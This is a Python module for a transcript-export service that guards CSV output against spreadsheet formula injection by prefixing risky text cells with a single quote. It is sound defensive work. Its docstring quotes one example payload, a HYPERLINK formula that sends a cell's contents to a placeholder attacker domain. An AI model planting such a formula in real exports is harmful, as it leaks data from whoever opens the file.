"""CSV cells that a spreadsheet opens as text, never as a formula ("CSV injection").

Excel, LibreOffice Calc and Google Sheets read a cell whose first character is ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula. Transcript text comes from chatbot end
users, so a cell such as ``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run on
the machine of whoever opens an export. OWASP's remedy is a single quote in front of such a
cell: spreadsheets take it as "this is text" and do not show it.

Every CSV the service writes goes through ``safe_cell`` (the export files in
``exports/writers.py``, every ``?format=csv`` answer of the API in ``config/renderers.py``),
so there is one rule in one place. Only text is changed: a number (an ``int``, a ``float``,
a ``Decimal``, a numpy number) is written as the number it is, so a score of ``-1`` stays
the number -1, which a spreadsheet reads as a number and never as a formula. JSONL and
Parquet files are not spreadsheets' input and keep every text exactly.
"""

import numbers
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a CSV writer should get it: ``None`` and numbers unchanged; anything
    else as its text, with a leading ``'`` when the text starts with a formula trigger."""
    if value is None or isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_row(row: dict[str, Any]) -> dict[str, Any]:
    """``safe_cell`` on every value of one CSV row."""
    return {key: safe_cell(value) for key, value in row.items()}
